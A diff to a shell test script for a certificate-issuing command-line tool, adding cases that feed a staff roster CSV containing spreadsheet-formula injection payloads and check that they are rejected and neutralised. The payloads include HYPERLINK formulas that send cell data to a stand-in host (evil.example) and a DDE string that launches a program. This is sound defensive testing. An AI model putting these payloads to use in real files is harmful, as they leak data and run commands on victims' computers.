@@ -76,4 +76,23 @@ check "names the rule" contains "$T/out" "is not a photo file inside the roster'
 check "secret never stored" bash -c "! $SC list --db '$D' --json | grep -q secret"
 { echo "$hdr"; row 壬九 109 "secret.png"; } > "$T/r1/r2.csv"
 expect_rc "--photos DIR names the folder instead" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/r1/r2.csv" --photos "$T/outside" --quiet
+# --- 2. no spreadsheet formula in what we write or store --------------------
+{ echo '姓名,证件类型,证件号码,职业,等级,评价方式,考核日期,工作单位'
+  echo '"=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",居民身份证,'"$(id_number 201)"',养老护理员,5,过程化考核,2024-04-01,'
+  echo "+cmd|' /C calc'!A0,居民身份证,$(id_number 202),养老护理员,5,过程化考核,2024-04-01,"
+  echo "@SUM(A1),居民身份证,$(id_number 203),养老护理员,5,过程化考核,2024-04-01,"
+  echo "张三,居民身份证,$(id_number 204),养老护理员,5,过程化考核,2024-04-01,\"=HYPERLINK(\"\"http://evil.example\"\")\""
+  printf '李四,居民身份证,%s,养老护理员,5,过程化考核,2024-04-01,"\t=1+2"\n' "$(id_number 205)"
+  echo "王五,居民身份证,$(id_number 206),养老护理员,5,过程化考核,2024-04-01,-2+3"
+  echo "赵六,居民身份证,$(id_number 207),养老护理员,5,过程化考核,2024-04-01,南昌市颐康养老院"
+} > "$T/f.csv"
+expect_rc "formula rows: the good one issues" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/f.csv" --partial --json
+check "six rejected" contains "$T/out" '"rejected":6'
+check "employer formula refused with a reason" contains "$T/out" "spreadsheet runs as a formula"
+check "no rejects cell starts a formula" python3 -c "
+import csv,sys
+rows=list(csv.reader(open('$T/f.csv.rejects.csv',encoding='utf-8-sig')))
+bad=[c for r in rows for c in r if c[:1] in '=+-@\t\r']
+hooks=[c for r in rows for c in r if c.startswith(\"'=\") or c.startswith(\"'+\") or c.startswith(\"'@\")]
+sys.exit(1 if bad or len(hooks) < 3 else 0)"
 finish
